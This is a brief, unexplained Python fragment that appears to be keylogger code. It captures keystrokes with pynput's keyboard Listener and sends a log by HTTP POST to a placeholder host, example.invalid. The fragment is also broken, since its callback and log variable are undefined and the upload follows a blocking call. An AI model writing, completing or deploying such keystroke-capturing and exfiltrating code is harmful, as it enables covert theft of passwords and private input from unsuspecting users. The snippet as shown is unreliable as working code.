import requests
from pynput.keyboard import Listener
with Listener(on_press=write) as listener:
    listener.join()
requests.post("https://example.invalid/", data=log)
